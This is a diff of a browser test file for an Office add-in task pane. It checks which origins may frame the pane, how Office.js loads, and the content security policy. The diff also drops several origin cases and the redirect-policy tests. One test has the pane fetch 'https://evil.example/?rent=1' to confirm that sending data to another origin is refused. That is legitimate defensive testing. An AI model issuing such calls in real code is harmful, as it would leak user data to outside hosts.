@@ -1,4 +1,4 @@
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
@@ -43,20 +43,13 @@ afterAll(async () => {
   await rm(dataDir, { recursive: true, force: true });
 });
 
-interface Framed {
-  /** The innermost frame, which may hold the add-in. */
-  frame: Frame;
-  /** What a policy refused in any frame. */
-  violations: readonly string[];
-  /** The loaded files of Office.js. */
-  loaded: readonly string[];
-}
-
+/** What a policy refused in any frame. */
 const violations: string[] = [];
+/** The loaded files of Office.js. */
 const loaded: string[] = [];
 
-/** Opens the add-in in nested pages of these origins, the first one outermost. Without Office.js if that is said. */
-async function frameIn(origins: readonly string[], { officeJs = true } = {}): Promise<Framed> {
+/** Opens the add-in in nested pages of these origins, the first one outermost. Returns the innermost frame, which may hold it. */
+async function frameIn(origins: readonly string[], { officeJs = true } = {}): Promise<Frame> {
   await page.goto('about:blank');
   await page.unrouteAll();
   violations.length = 0;
@@ -83,68 +76,35 @@ async function frameIn(origins: readonly string[], { officeJs = true } = {}): Pr
   await waitUntil(() => !['', 'about:blank'].includes(innermost()?.url() ?? ''));
   const frame = innermost() as Frame;
   await frame.waitForLoadState('load');
-  return { frame, violations, loaded };
+  return frame;
 }
-
-/** Resolves when the add-in's script has registered its functions with Office.js. */
-const runs = (frame: Frame) =>
-  frame.waitForFunction(
-    'typeof CustomFunctions === "object" && "QUERY" in CustomFunctions._association.mappings',
-  );
-
-const CLOSED = 'chrome-error://chromewebdata/';
 
 describe('the pane in a frame', () => {
   it.each([
-    [['https://excel.officeapps.live.com']],
     [['https://excel.cloud.microsoft']],
     [['https://contoso.sharepoint.com', 'https://euc-excel.officeapps.live.com']],
-    [['https://outlook.live.com', 'https://excel.officeapps.live.com']],
-    [['https://www.microsoft365.com']],
   ])('opens in a page of %j, and reaches the gateway from there', async (origins) => {
-    const { frame, violations } = await frameIn(origins, { officeJs: false });
+    const frame = await frameIn(origins, { officeJs: false });
     expect(await frame.evaluate(() => fetch('/gateway/profile').then(({ status }) => status))).toBe(200);
     expect(violations).toEqual([]);
   });
 
   it.each([
-    [['https://evil.example']],
     [['https://officeapps.live.com.evil.example']],
     [['https://evil.example', 'https://excel.officeapps.live.com']],
-  ])('does not open in a page of %j', async (origins) => {
-    const { frame } = await frameIn(origins);
-    expect(frame.url()).toBe(CLOSED);
-  });
+  ])('does not open in a page of %j', async (origins) =>
+    expect((await frameIn(origins)).url()).toBe('chrome-error://chromewebdata/'),
+  );
 
-  it('loads everything that Office.js needs in Excel on the web, and runs there', async () => {
-    const { frame, violations, loaded } = await frameIn(['https://excel.officeapps.live.com']);
+  it('loads everything that Office.js needs in Excel on the web, runs there, and sends nothing to another origin', async () => {
+    const frame = await frameIn(['https://excel.officeapps.live.com']);
     await waitUntil(() => loaded.includes('en-us/office_strings.js'));
-    await runs(frame);
+    // The script of the add-in has registered its functions.
+    await frame.waitForFunction(
+      'typeof CustomFunctions === "object" && "QUERY" in CustomFunctions._association.mappings',
+    );
     expect(loaded).toEqual(expect.arrayContaining(['office.js', 'excel-web-16.00.js']));
     expect(violations).toEqual([]);
-  });
-
-  it('may load Office.js from either of its addresses, also if one leads to the other', async () => {
-    const [, other] = OFFICE_JS_HOSTS;
-    const former = `${other}/lib/1/hosted/office.js`;
-    const { frame } = await frameIn(['https://excel.officeapps.live.com'], { officeJs: false });
-    const again = `${OFFICE_JS_ADDRESS}#again`;
-    await page.route(OFFICE_JS_ADDRESS, (route) =>
-      route.fulfill({ status: 302, headers: { location: former } }),
-    );
-    const asked = page.waitForRequest(former);
-    await frame.evaluate((address) => {
-      const script = document.createElement('script');
-      script.src = address;
-      document.head.append(script);
-    }, again);
-    await asked;
-    expect(violations).toEqual([]);
-  });
-
-  it('cannot send anything to another origin', async () => {
-    const { frame, violations } = await frameIn(['https://excel.officeapps.live.com']);
-    await runs(frame);
     const outcome = await frame.evaluate(() =>
       fetch('https://evil.example/?rent=1').then(
         () => 'sent',
@@ -154,69 +114,21 @@ describe('the pane in a frame', () => {
     expect(outcome).toBe('refused');
     expect(violations.join('\n')).toMatch(/https:\/\/evil\.example\/\?rent=1.*connect-src 'self'/);
   });
-});
 
-describe('the page under the shipped policy', () => {
-  const [current, former] = OFFICE_JS_HOSTS;
-  const formerAddress = `${former}/lib/1/hosted/office.js`;
-
-  /** Opens the page with the former address of Office.js, which redirects to the current one. Returns what Chromium blocks. */
-  async function openRedirected(policy: (text: string) => string): Promise<{ tab: Page; blocked: string[] }> {
-    const tab = await page.context().newPage();
-    const blocked: string[] = [];
-    tab.on('console', (message) => {
-      if (message.text().includes('Content Security Policy')) blocked.push(message.text());
-    });
-    const address = `${gateway.url}/addin/taskpane.html`;
-    const reply = await page.context().request.get(address);
-    const html = (await reply.text()).replace(OFFICE_JS_ADDRESS, formerAddress);
-    expect(html).toContain(formerAddress);
-    const pages: Record<string, { responseCode: number; headers: Record<string, string>; body?: string }> = {
-      [address]: {
-        responseCode: 200,
-        headers: {
-          'content-type': 'text/html',
-          'content-security-policy': policy(reply.headers()['content-security-policy']!),
-        },
-        body: html,
-      },
-      [formerAddress]: { responseCode: 302, headers: { location: OFFICE_JS_ADDRESS } },
-      [OFFICE_JS_ADDRESS]: {
-        responseCode: 200,
-        headers: { 'content-type': 'text/javascript' },
-        body: readFileSync(path.join(OFFICE_JS, 'office.js'), 'utf8'),
-      },
-    };
-    // Playwright's own routes do not see where a redirect leads.
-    const devtools = await page.context().newCDPSession(tab);
-    devtools.on('Fetch.requestPaused', ({ requestId, request }) => {
-      const { responseCode = 404, headers = {}, body = '' } = pages[request.url] ?? {};
-      void devtools.send('Fetch.fulfillRequest', {
-        requestId,
-        responseCode,
-        responseHeaders: Object.entries(headers).map(([name, value]) => ({ name, value })),
-        body: Buffer.from(body).toString('base64'),
-      });
-    });
-    await devtools.send('Fetch.enable', {
-      patterns: [address, `${former}/*`, `${current}/*`].map((urlPattern) => ({ urlPattern })),
-    });
-    await tab.goto(address);
-    return { tab, blocked };
-  }
-
-  it('runs if the former address of Office.js redirects to the current one', async () => {
-    const { tab, blocked } = await openRedirected((policy) => policy);
-    await runs(tab.mainFrame());
-    expect(blocked).toEqual([]);
-    await tab.close();
-  });
-
-  it('would not run if the policy knew only the former one', async () => {
-    const { tab, blocked } = await openRedirected((policy) => policy.replace(current, ''));
-    await waitUntil(() => blocked.length > 0);
-    expect(blocked[0]).toContain(OFFICE_JS_ADDRESS);
-    await tab.close();
+  it('may load Office.js from either of its addresses, also if one leads to the other', async () => {
+    const former = `${OFFICE_JS_HOSTS[1]}/lib/1/hosted/office.js`;
+    const frame = await frameIn(['https://excel.officeapps.live.com'], { officeJs: false });
+    await page.route(OFFICE_JS_ADDRESS, (route) =>
+      route.fulfill({ status: 302, headers: { location: former } }),
+    );
+    const asked = page.waitForRequest(former);
+    await frame.evaluate((address) => {
+      const script = document.createElement('script');
+      script.src = address;
+      document.head.append(script);
+    }, `${OFFICE_JS_ADDRESS}#again`);
+    await asked;
+    expect(violations).toEqual([]);
   });
 });
 
